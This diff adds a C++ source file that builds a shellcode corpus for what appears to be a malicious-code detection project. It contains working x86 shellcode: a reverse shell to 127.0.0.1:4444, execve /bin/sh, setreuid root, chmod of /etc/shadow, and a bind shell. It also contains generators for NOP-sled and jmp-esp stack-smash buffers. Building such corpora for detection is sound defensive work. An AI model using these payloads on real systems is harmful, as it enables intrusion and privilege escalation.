@@ -1,0 +1,214 @@
+#include "mel/textcode/shellcode_corpus.hpp"
+
+#include "mel/disasm/assembler.hpp"
+
+namespace mel::textcode {
+
+namespace {
+
+using disasm::Assembler;
+using disasm::Cond;
+using disasm::Gpr;
+
+/// Classic TCP reverse shell (connect-back to 127.0.0.1:4444, dup2 the
+/// socket over stdio, execve a shell), authored through the assembler —
+/// the corpus's demonstration of the mel::disasm::Assembler toolchain.
+util::ByteBuffer assemble_reverse_shell() {
+  Assembler a;
+  // sockfd = socketcall(SYS_SOCKET, {AF_INET, SOCK_STREAM, 0})
+  a.xor_(Gpr::kEax, Gpr::kEax)
+      .xor_(Gpr::kEbx, Gpr::kEbx)
+      .xor_(Gpr::kEdx, Gpr::kEdx)
+      .push(Gpr::kEdx)                  // protocol 0
+      .push_imm8(1)                     // SOCK_STREAM
+      .push_imm8(2)                     // AF_INET
+      .mov(Gpr::kEcx, Gpr::kEsp)
+      .mov_imm8(Gpr::kEax, 0x66)        // socketcall
+      .mov_imm8(Gpr::kEbx, 0x01)        // SYS_SOCKET
+      .int_(0x80)
+      .mov(Gpr::kEsi, Gpr::kEax);       // save sockfd
+  // connect(sockfd, {AF_INET, 4444, 127.0.0.1}, 16)
+  a.push_imm32(0x0100007F)              // 127.0.0.1
+      .push_imm32(0x5C110002)           // port 4444, AF_INET
+      .mov(Gpr::kEcx, Gpr::kEsp)
+      .push_imm8(16)                    // addrlen
+      .push(Gpr::kEcx)                  // &sockaddr
+      .push(Gpr::kEsi)                  // sockfd
+      .mov(Gpr::kEcx, Gpr::kEsp)
+      .mov_imm8(Gpr::kEax, 0x66)
+      .mov_imm8(Gpr::kEbx, 0x03)        // SYS_CONNECT
+      .int_(0x80);
+  // dup2(sockfd, 2..0)
+  Assembler::Label dup_loop = a.make_label();
+  a.xor_(Gpr::kEcx, Gpr::kEcx).mov_imm8(Gpr::kEcx, 0x02);  // cl = 2
+  a.bind(dup_loop)
+      .mov_imm8(Gpr::kEax, 0x3F)        // dup2
+      .mov(Gpr::kEbx, Gpr::kEsi)
+      .int_(0x80)
+      .dec(Gpr::kEcx)
+      .jcc(Cond::kNoSign, dup_loop);    // until ecx underflows past 0
+  // execve("/bin/sh", ["/bin/sh"], NULL)
+  a.xor_(Gpr::kEax, Gpr::kEax)
+      .push(Gpr::kEax)
+      .push_imm32(0x68732F2F)           // "//sh"
+      .push_imm32(0x6E69622F)           // "/bin"
+      .mov(Gpr::kEbx, Gpr::kEsp)
+      .push(Gpr::kEax)
+      .push(Gpr::kEbx)
+      .mov(Gpr::kEcx, Gpr::kEsp)
+      .xor_(Gpr::kEdx, Gpr::kEdx)
+      .mov_imm8(Gpr::kEax, 0x0B)
+      .int_(0x80);
+  return a.take();
+}
+
+util::ByteBuffer bytes_of(std::initializer_list<int> values) {
+  util::ByteBuffer out;
+  out.reserve(values.size());
+  for (int v : values) out.push_back(static_cast<std::uint8_t>(v));
+  return out;
+}
+
+std::vector<Shellcode> build_corpus() {
+  std::vector<Shellcode> corpus;
+
+  // Classic 23-byte execve("/bin/sh") (Aleph One lineage):
+  //   xor eax,eax; push eax; push "//sh"; push "/bin"; mov ebx,esp;
+  //   push eax; push ebx; mov ecx,esp; xor edx,edx; mov al,0xb; int 0x80
+  corpus.push_back(Shellcode{
+      "execve-binsh",
+      "execve(\"/bin/sh\") via int 0x80",
+      bytes_of({0x31, 0xC0, 0x50, 0x68, 0x2F, 0x2F, 0x73, 0x68,
+                0x68, 0x2F, 0x62, 0x69, 0x6E, 0x89, 0xE3, 0x50,
+                0x53, 0x89, 0xE1, 0x31, 0xD2, 0xB0, 0x0B, 0xCD, 0x80})});
+
+  // setreuid(0,0) prefix + execve: the privilege-restoring classic.
+  corpus.push_back(Shellcode{
+      "setreuid-execve",
+      "setreuid(0,0); execve(\"/bin/sh\")",
+      bytes_of({0x31, 0xC0, 0x31, 0xDB, 0x31, 0xC9, 0xB0, 0x46,
+                0xCD, 0x80, 0x31, 0xC0, 0x50, 0x68, 0x2F, 0x2F,
+                0x73, 0x68, 0x68, 0x2F, 0x62, 0x69, 0x6E, 0x89,
+                0xE3, 0x50, 0x53, 0x89, 0xE1, 0x31, 0xD2, 0xB0,
+                0x0B, 0xCD, 0x80})});
+
+  // exit(0): the smallest meaningful payload.
+  corpus.push_back(Shellcode{
+      "exit0",
+      "exit(0)",
+      bytes_of({0x31, 0xC0, 0x31, 0xDB, 0xB0, 0x01, 0xCD, 0x80})});
+
+  // chmod("/etc/shadow", 0666)-style payload.
+  corpus.push_back(Shellcode{
+      "chmod-shadow",
+      "chmod(\"/etc/shadow\", 0666)",
+      bytes_of({0x31, 0xC0, 0x50, 0x68, 0x61, 0x64, 0x6F, 0x77,
+                0x68, 0x2F, 0x2F, 0x73, 0x68, 0x68, 0x2F, 0x65,
+                0x74, 0x63, 0x89, 0xE3, 0x31, 0xC9, 0x66, 0xB9,
+                0xB6, 0x01, 0xB0, 0x0F, 0xCD, 0x80, 0x31, 0xC0,
+                0xB0, 0x01, 0xCD, 0x80})});
+
+  // dup2(s,0..2) + execve — the tail of a bind/reverse shell.
+  corpus.push_back(Shellcode{
+      "dup2-execve",
+      "dup2 loop then execve(\"/bin/sh\")",
+      bytes_of({0x31, 0xC9, 0xB1, 0x03, 0x31, 0xC0, 0xB0, 0x3F,
+                0x31, 0xDB, 0xB3, 0x05, 0x49, 0xCD, 0x80, 0x41,
+                0x49, 0xE2, 0xF6, 0x31, 0xC0, 0x50, 0x68, 0x2F,
+                0x2F, 0x73, 0x68, 0x68, 0x2F, 0x62, 0x69, 0x6E,
+                0x89, 0xE3, 0x50, 0x53, 0x89, 0xE1, 0x31, 0xD2,
+                0xB0, 0x0B, 0xCD, 0x80})});
+
+  // A longer staged payload: socket(); bind(); listen(); accept();
+  // abbreviated but realistically sized (socketcall sequence).
+  corpus.push_back(Shellcode{
+      "bind-shell",
+      "socketcall bind shell (abbreviated staging)",
+      bytes_of({0x31, 0xC0, 0x31, 0xDB, 0x31, 0xC9, 0x31, 0xD2,
+                0xB0, 0x66, 0xB3, 0x01, 0x51, 0x6A, 0x06, 0x6A,
+                0x01, 0x6A, 0x02, 0x89, 0xE1, 0xCD, 0x80, 0x89,
+                0xC6, 0xB0, 0x66, 0xB3, 0x02, 0x52, 0x66, 0x68,
+                0x7A, 0x69, 0x66, 0x53, 0x89, 0xE1, 0x6A, 0x10,
+                0x51, 0x56, 0x89, 0xE1, 0xCD, 0x80, 0xB0, 0x66,
+                0xB3, 0x04, 0x6A, 0x01, 0x56, 0x89, 0xE1, 0xCD,
+                0x80, 0xB0, 0x66, 0xB3, 0x05, 0x31, 0xC9, 0x51,
+                0x51, 0x56, 0x89, 0xE1, 0xCD, 0x80, 0x89, 0xC6,
+                0x31, 0xC9, 0xB1, 0x03, 0x31, 0xC0, 0xB0, 0x3F,
+                0x89, 0xF3, 0x49, 0xCD, 0x80, 0x41, 0x49, 0xE2,
+                0xF6, 0x31, 0xC0, 0x50, 0x68, 0x2F, 0x2F, 0x73,
+                0x68, 0x68, 0x2F, 0x62, 0x69, 0x6E, 0x89, 0xE3,
+                0x50, 0x53, 0x89, 0xE1, 0x31, 0xD2, 0xB0, 0x0B,
+                0xCD, 0x80})});
+
+  corpus.push_back(Shellcode{
+      "reverse-shell",
+      "connect-back 127.0.0.1:4444, dup2 over stdio, execve (assembled)",
+      assemble_reverse_shell()});
+
+  return corpus;
+}
+
+}  // namespace
+
+const std::vector<Shellcode>& binary_shellcode_corpus() {
+  static const std::vector<Shellcode> corpus = build_corpus();
+  return corpus;
+}
+
+util::ByteBuffer make_polymorphic_sled(std::size_t length,
+                                       util::Xoshiro256& rng) {
+  // Single-byte instructions that are effectively NOPs for a sled landing
+  // anywhere: inc/dec/push reg, flag toggles, nop.
+  static constexpr std::uint8_t kSledBytes[] = {
+      0x90,                          // nop
+      0x40, 0x41, 0x42, 0x43, 0x46, 0x47,  // inc reg (not esp/ebp)
+      0x48, 0x49, 0x4A, 0x4B, 0x4E, 0x4F,  // dec reg
+      0x50, 0x51, 0x52, 0x53, 0x56, 0x57,  // push reg
+      0xF5, 0xF8, 0xF9, 0xFC, 0xFD,        // cmc/clc/stc/cld/std
+      0x98, 0x99,                          // cwde/cdq
+  };
+  util::ByteBuffer sled;
+  sled.reserve(length);
+  for (std::size_t i = 0; i < length; ++i) {
+    sled.push_back(kSledBytes[rng.next_below(sizeof(kSledBytes))]);
+  }
+  return sled;
+}
+
+util::ByteBuffer make_sled_worm(const Shellcode& payload,
+                                std::size_t sled_length,
+                                std::size_t ret_repeats,
+                                util::Xoshiro256& rng) {
+  util::ByteBuffer worm;
+  // 0x90 sled with some polymorphic seasoning.
+  util::ByteBuffer sled = make_polymorphic_sled(sled_length, rng);
+  worm.insert(worm.end(), sled.begin(), sled.end());
+  worm.insert(worm.end(), payload.bytes.begin(), payload.bytes.end());
+  // Stack-smash return addresses pointing into the sled.
+  const std::uint32_t ret = 0xBFFFF000u + static_cast<std::uint32_t>(
+                                              rng.next_below(0x800));
+  for (std::size_t i = 0; i < ret_repeats; ++i) util::append_le32(worm, ret);
+  return worm;
+}
+
+util::ByteBuffer make_register_spring_worm(const Shellcode& payload,
+                                           std::size_t junk_length,
+                                           std::size_t ret_repeats,
+                                           util::Xoshiro256& rng) {
+  util::ByteBuffer worm;
+  // Arbitrary protocol junk — no executable sled at all.
+  for (std::size_t i = 0; i < junk_length; ++i) {
+    worm.push_back(static_cast<std::uint8_t>(rng.next_below(256)));
+  }
+  // The register-spring address: a static "jmp esp" inside a loaded
+  // module; the payload sits directly after the overwritten return slot.
+  const std::uint32_t spring = 0x77E0B000u + static_cast<std::uint32_t>(
+                                                 rng.next_below(0x1000));
+  for (std::size_t i = 0; i < ret_repeats; ++i) {
+    util::append_le32(worm, spring);
+  }
+  worm.insert(worm.end(), payload.bytes.begin(), payload.bytes.end());
+  return worm;
+}
+
+}  // namespace mel::textcode
